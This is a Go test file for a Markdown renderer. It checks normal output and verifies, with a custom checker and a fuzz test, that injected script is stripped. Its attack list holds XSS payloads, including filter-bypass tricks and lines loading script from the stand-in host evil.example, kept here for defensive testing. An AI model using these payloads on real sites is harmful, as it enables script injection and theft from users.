package main

import (
	"errors"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"
)

func rendered(t *testing.T, source string) string {
	t.Helper()
	var out strings.Builder
	if err := render(&out, []byte(source)); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestRender(t *testing.T) {
	for _, c := range []struct{ name, source, want string }{
		{"nothing", "", ""},
		{"text", "Hello *world* & <b>all</b>", "<p>Hello <em>world</em> &amp; <b>all</b></p>\n"},
		{"heading", "# Title\n", "<h1 id=\"title\">Title</h1>\n"},
		{"code", "```go\nx < y\n```\n", "<pre><code class=\"language-go\">x &lt; y\n</code></pre>\n"},
		{"strikethrough", "~~no~~", "<p><del>no</del></p>\n"},
		{"a link", "[a](https://example.com/?a=1&b=2)", "<p><a href=\"https://example.com/?a=1&amp;b=2\" rel=\"nofollow\">a</a></p>\n"},
		{"a bare link", "see https://example.com", "<p>see <a href=\"https://example.com\" rel=\"nofollow\">https://example.com</a></p>\n"},
		{"tasks", "- [x] done\n- [ ] open\n", "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n<li><input disabled=\"\" type=\"checkbox\"> open</li>\n</ul>\n"},
		{
			"a table", "|a|b|\n|-|-:|\n|1|2|\n",
			"<table>\n<thead>\n<tr>\n<th>a</th>\n<th style=\"text-align: right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td style=\"text-align: right\">2</td>\n</tr>\n</tbody>\n</table>\n",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			if diff := cmp.Diff(c.want, rendered(t, c.source)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// harm returns what of a page could run a script or take over the page around it. Empty: nothing.
func harm(t *testing.T, page string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	forbidden := []string{"script", "iframe", "object", "embed", "style", "svg", "math", "form", "meta", "link", "base", "template", "button"}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains(forbidden, n.Data) {
			return n.Data
		}
		for _, a := range n.Attr {
			switch a.Key {
			case "href", "src", "cite", "action", "poster", "background":
				u, err := url.Parse(strings.TrimSpace(a.Val))
				if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) {
					return a.Key + "=" + a.Val
				}
			case "srcdoc", "formaction", "http-equiv":
				return a.Key
			case "style":
				if !slices.Contains([]string{"text-align: left", "text-align: center", "text-align: right"}, a.Val) {
					return a.Val
				}
			}
			if strings.HasPrefix(a.Key, "on") {
				return a.Key
			}
		}
	}
	return ""
}

var attacks = []string{
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"<img src=x onerror='alert(1)'\n>",
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt&colon;alert(1))",
	"[a](java\tscript:alert(1))",
	"[a](data:text/html;base64,PHNjcmlwdD4=)",
	"![a](javascript:alert(1))",
	"<javascript:alert(1)>",
	"[a]: javascript:alert(1)\n\n[a]",
	"<a href='vbscript:x'>a</a>",
	"<svg/onload=alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
	"<style>@import url(//evil.example)</style>",
	"<form action=//evil.example><input type=image formaction=javascript:alert(1)></form>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>script>alert(1)<</script>/script>",
	"[a](https://example.com \"x\" onmouseover=alert(1))",
	"<math><mtext><script>alert(1)</script>",
	"`<script>`\n<script>\nalert(1)\n</script>",
	"|<script>|\n|-|\n|<img src=x onerror=alert(1)>|\n",
}

func TestScriptsAreGone(t *testing.T) {
	for _, source := range attacks {
		got := rendered(t, source)
		if what := harm(t, got); what != "" {
			t.Errorf("%q became %q, with %s", source, got, what)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, source := range attacks {
		f.Add(source)
	}
	f.Add("# a\n\n- [ ] b\n\n|c|\n|-|\n|d|\n")
	f.Fuzz(func(t *testing.T, source string) {
		got := rendered(t, source)
		if what := harm(t, got); what != "" {
			t.Errorf("%q became %q, with %s", source, got, what)
		}
	})
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errors.New("no space left") }

func TestWriteFails(t *testing.T) {
	if err := render(fullDisk{}, []byte("x")); err == nil {
		t.Error("not told that the answer was not written")
	}
}
